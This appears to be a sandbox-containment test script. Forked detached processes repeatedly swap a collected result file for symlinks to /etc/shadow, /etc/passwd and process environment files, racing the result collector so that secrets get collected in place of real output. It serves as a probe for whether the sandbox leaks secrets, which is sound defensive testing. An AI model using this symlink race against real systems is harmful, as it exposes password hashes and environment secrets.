"""Swaps a result between a file and links to secrets while it is collected."""

import os
import time

OUT = os.environ.get("KERNELVAULT_OUT", "/out")
TARGETS = ("/etc/shadow", "/etc/passwd", "/proc/1/environ", "/proc/self/environ")


def swap():
    """For as long as we live, which should not be long."""
    spare = OUT + "/spare"
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for target in TARGETS:
            for make in (plain, lambda path, target=target: os.symlink(target, path)):
                try:
                    make(spare)
                    os.rename(spare, OUT + "/result.bin")
                except OSError:
                    continue


def plain(path):
    with open(path, "wb") as file:
        file.write(b"plain")


plain(OUT + "/result.bin")
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        swap()
        os._exit(0)
time.sleep(0.1)
print("contained: links are swapped; the collected results are searched", flush=True)
